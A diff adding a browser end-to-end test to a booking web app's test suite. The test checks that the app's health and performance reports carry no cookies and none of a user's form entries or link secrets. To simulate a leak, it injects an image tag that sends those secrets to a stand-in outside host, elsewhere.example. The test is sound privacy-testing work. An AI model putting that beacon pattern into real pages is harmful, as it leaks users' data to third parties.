@@ -9,7 +9,7 @@ import type { Deployment } from '../../../scripts/build/environment.ts'
 import { BookingPage } from '../support/booking-page.ts'
 import { bookingIn } from '../support/host-page.ts'
 import { MAPS } from '../support/maps.ts'
-import { FORM, GARAGE, SALON } from '../support/routes.ts'
+import { fillForm, FORM, GARAGE, SALON, walkToForm } from '../support/routes.ts'
 import { everyServer } from './every-server.ts'
 import { ask, expect, folderOf, headersOf, SHOP, test } from './fixtures.ts'
 
@@ -78,6 +78,48 @@ test('a link to the times of a service opens them, and a reload does, too', asyn
   await booking.isAt(/^When would suit you\?$/)
   await booking.pickTime()
   await booking.isAt(FORM.question)
+})
+
+test('where the environment asks for it a page reports how it fared, and nothing of who was there', async ({
+  page,
+  control,
+  troubles,
+}) => {
+  troubles.expectUncaught()
+  troubles.allow(
+    /^policy: img-src|Content Security Policy|^request elsewhere: https:\/\/elsewhere\.example\/|^console: Error: Essai/,
+  )
+  const secrets = [...Object.values(GARAGE.typed), GARAGE.urlname, 'secret-of-the-link']
+  const booking = new BookingPage(page)
+  await walkToForm(booking, GARAGE, undefined, { websource: 'secret-of-the-link' })
+  await fillForm(booking, GARAGE)
+  // What a script or a picture of somebody else might carry.
+  await page.evaluate((secret) => {
+    document.body.append(Object.assign(document.createElement('img'), { src: `https://elsewhere.example/?${secret}` }))
+    setTimeout(() => {
+      throw new Error(secret)
+    })
+  }, secrets.join(' '))
+  await booking.bookButton.click()
+  await booking.isBooked()
+  await page.goto('about:blank')
+  // The report outlives the page, so it may come later than the next one.
+  await expect
+    .poll(async () => {
+      await page.goto('/-/health?locale=en')
+      return page.getByRole('row', { name: /^img-src: other book\/fiche_info 1 / }).count()
+    })
+    .toBe(1)
+  await expect(page.getByRole('row', { name: /^booked book\/(?:confirm|fiche_info) / })).toBeVisible()
+  for (const name of ['TTFB', 'FCP', 'LCP']) {
+    await expect(page.getByRole('row', { name: new RegExp(`^${name} `) }).first()).toBeVisible()
+  }
+  const sent = await control.requests({ method: 'POST', path: '^/-/health$' })
+  expect(sent.length).toBeGreaterThan(0)
+  expect(sent.filter(({ headers }) => headers.cookie !== undefined)).toEqual([])
+  for (const said of [...sent.map((one) => JSON.stringify(one)), await page.getByRole('main').innerText()]) {
+    expect(secrets.filter((secret) => said.includes(secret))).toEqual([])
+  }
 })
 
 /** A build in which every script has another name, as after a change to all of them. */
